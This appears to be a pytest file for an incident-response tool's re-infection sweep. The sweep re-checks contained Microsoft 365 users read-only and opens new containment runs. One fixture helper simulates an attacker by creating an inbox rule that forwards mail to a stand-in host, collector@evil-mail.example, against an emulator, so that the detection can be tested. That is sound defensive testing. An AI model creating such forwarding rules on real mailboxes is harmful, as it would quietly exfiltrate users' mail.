"""The re-infection watch sweep ("reinfection"): contained users are checked again, read-only,
with the watch steps' plans; what reappeared opens a new run for that user only.

Megan is contained for real (a full containment through the queue); then an attacker
creates a forwarding inbox rule through Graph, as one with a surviving token would. Users
outside the window, released, or only dry-run get the same rule and must not be read.
"""

from __future__ import annotations

from datetime import timedelta
from typing import Any

from functions import runtime
from shared.services import Services
from shared.sweeps.runner import run_sweep
from tests.playbook.conftest import MEGAN, MEGAN_ID, build_services, run_via_queue
from tests.sweeps.conftest import add_run, queued

OBRIEN, OBRIEN_ID = "o'brien@contoso.com", "e5a2d8b3-7c4f-4f9e-8b62-3a8d1c9f5e24"
ADELE, ADELE_ID = "adele@contoso.com", "0a1f7c38-2b9e-4e4d-9ab7-8f3c6b4e0d79"
PRADEEP, PRADEEP_ID = "pradeep@contoso.com", "1b2a8d49-3caf-4f5e-8bc8-9a4d7c5f1e80"
ATTACKER = "collector@evil-mail.example"


async def _contain_megan(services: Services) -> None:
    stats = await run_via_queue(services, {"user": MEGAN, "requestId": "contained-megan",
                                           "riskLevel": "high", "reason": "alert"})
    assert stats.failed == 0 and stats.poisoned == 0
    run = await services.journal.get_run("contained-megan")
    assert run is not None and run.state == "finished", run and run.reason


async def _plant_rule(services: Services, user_id: str, name: str) -> str:
    """What an attacker with a surviving token does: a rule forwarding mail outside."""
    rule = await services.graph.request(
        "POST", f"/users/{user_id}/mailFolders/inbox/messageRules",
        body={"displayName": name, "sequence": 1, "isEnabled": True,
              "actions": {"forwardTo": [{"emailAddress": {"address": ATTACKER}}],
                          "stopProcessingRules": True}},
        permission="MailboxSettings.ReadWrite")
    return str(rule["id"])


def _touches(entries: list[dict[str, Any]], *who: str) -> list[dict[str, Any]]:
    """Reads of these users: Graph paths with their id or UPN, Exchange cmdlets run on
    their mailbox (a Get-Recipient name lookup made while judging another mailbox's
    delegates is not a check of that recipient)."""
    keys = [w.lower() for w in who]
    return [e for e in entries
            if any(k in str(e.get("path", "")).lower() for k in keys)
            or (e.get("cmdlet") != "Get-Recipient"
                and any(k in str(e.get("params")).lower() for k in keys))]


def _rule(emulator: Any, user_id: str, rule_id: str) -> dict[str, Any]:
    user = next(u for u in emulator.state()["users"] if u["id"] == user_id)
    return next(r for r in user["mailbox"]["rules"] if r["id"] == rule_id)


async def test_a_new_rule_after_containment_opens_a_new_run_for_that_user_only(
        demo_services, emulator):
    services = demo_services
    await _contain_megan(services)
    # O'Brien: contained two days ago, released yesterday (a false positive)
    await add_run(services, "obrien-contained", user_id=OBRIEN_ID, upn=OBRIEN,
                  state="finished", age=timedelta(days=2))
    await add_run(services, "obrien-released", user_id=OBRIEN_ID, upn=OBRIEN,
                  state="released", age=timedelta(days=1))
    # Adele: contained ten days ago, outside the 7-day window
    await add_run(services, "adele-old", user_id=ADELE_ID, upn=ADELE, state="finished",
                  age=timedelta(days=10))
    # Pradeep: only a dry run (nothing was contained)
    await add_run(services, "dry-pradeep", user_id=PRADEEP_ID, upn=PRADEEP, state="finished",
                  age=timedelta(hours=1), dry_run=True)
    megan_rule = await _plant_rule(services, MEGAN_ID, "Sync to archive")
    for uid in (OBRIEN_ID, ADELE_ID, PRADEEP_ID):
        await _plant_rule(services, uid, "Sync to archive")

    start = len(emulator.requests())
    result = await run_sweep(services, "reinfection", trigger="timer")
    calls = emulator.requests()[start:]

    assert result.status == "ok" and result.complete, result.text()
    assert [f["user"] for f in result.found] == [MEGAN]
    assert "disable_malicious_inbox_rules" in result.found[0]["why"]
    assert "Sync to archive" in result.found[0]["why"]
    assert [a["user"] for a in result.actions] == [MEGAN]
    assert [(s["runId"], s["why"]) for s in result.skipped] == [
        ("obrien-contained", "released after the containment")]
    writes = [(e["method"], e["path"], e.get("cmdlet")) for e in calls if e["write"]]
    assert writes == [("POST", "/v1.0/users/responder@contoso.com/sendMail", None)], writes
    # the only write is the SOC notice of the sweep's findings: the check is read-only
    assert _touches(calls, MEGAN_ID, MEGAN), "Megan was read"
    others = _touches(calls, OBRIEN_ID, "o'brien", ADELE_ID, ADELE, PRADEEP_ID, PRADEEP)
    assert not others, [(e["path"], e.get("cmdlet"), e.get("params")) for e in others]

    (message,) = await queued(services)
    assert message["user"] == MEGAN_ID
    assert message["reason"].startswith("reinfection: disable_malicious_inbox_rules: ")
    assert message["source"] == "sweep.reinfection"

    # the new run contains what came back
    await run_via_queue(services)
    runs = [r for r in await services.journal.runs_for_user(MEGAN_ID)
            if r["RowKey"] != "contained-megan"]
    assert len(runs) == 1 and runs[0]["state"] == "finished"
    assert _rule(emulator, MEGAN_ID, megan_rule)["isEnabled"] is False

    # watched again: nothing reappeared now, so no further run
    again = await run_sweep(services, "reinfection", trigger="timer")
    assert again.found == [] and again.actions == [], again.text()
    assert await queued(services) == []


async def test_nothing_reappeared_means_no_run(demo_services, emulator):
    services = demo_services
    await _contain_megan(services)
    result = await run_sweep(services, "reinfection", trigger="timer")
    assert result.status == "ok" and result.found == [] and result.actions == []
    assert any("1 user(s) contained" in n for n in result.notes), result.notes
    assert await queued(services) == []
    assert result.errors == []


async def test_watch_steps_not_registered_are_skipped_with_a_note(settings, emulator):
    services = build_services(settings, sweeps={"reinfection": {
        "steps": ["clear_mailbox_forwarding", "watch_something_not_shipped"]}})
    runtime.use_services(services)
    try:
        await _contain_megan(services)
        result = await run_sweep(services, "reinfection", trigger="timer")
        assert result.status == "ok" and result.errors == []
        assert any("not registered" in n and "watch_something_not_shipped" in n
                   for n in result.notes), result.notes
        assert any("watching with clear_mailbox_forwarding" in n for n in result.notes)
    finally:
        runtime.use_services(None)
        await services.close()


async def test_one_users_failure_does_not_stop_the_others_and_the_pass_resumes(
        settings, emulator):
    services = build_services(settings, sweeps={"reinfection": {"usersPerRun": 1}})
    runtime.use_services(services)
    try:
        await _contain_megan(services)
        # Adele (sorted first) was contained an hour ago; reading her fails
        await add_run(services, "adele-recent", user_id=ADELE_ID, upn=ADELE,
                      state="finished", age=timedelta(hours=1),
                      steps=["collect_evidence", "revoke_sessions",
                             "disable_malicious_inbox_rules"])
        emulator.add_fault(method="GET", path_regex=rf"/users/{ADELE_ID}$", status=403,
                           code="Authorization_RequestDenied",
                           message="Insufficient privileges to complete the operation.",
                           count=None)
        await _plant_rule(services, MEGAN_ID, "Keep a copy")

        first = await run_sweep(services, "reinfection", trigger="timer")
        assert not first.complete and first.actions == []
        assert len(first.errors) == 1 and first.errors[0].startswith(ADELE)
        assert any("resumes after" in n for n in first.notes), first.notes

        second = await run_sweep(services, "reinfection", trigger="timer")
        assert second.complete and [a["user"] for a in second.actions] == [MEGAN]
        assert second.errors == []
        assert [m["user"] for m in await queued(services)] == [MEGAN_ID]

        # a dry run of the sweep finds the same and enqueues nothing more
        dry = await run_sweep(services, "reinfection", dry_run=True, budget=5)
        assert dry.dry_run
        assert [(a["user"], a["submission"]) for a in dry.actions] == [(MEGAN,
                                                                        "would-enqueue")]
        assert len(await queued(services)) == 1
    finally:
        runtime.use_services(None)
        await services.close()
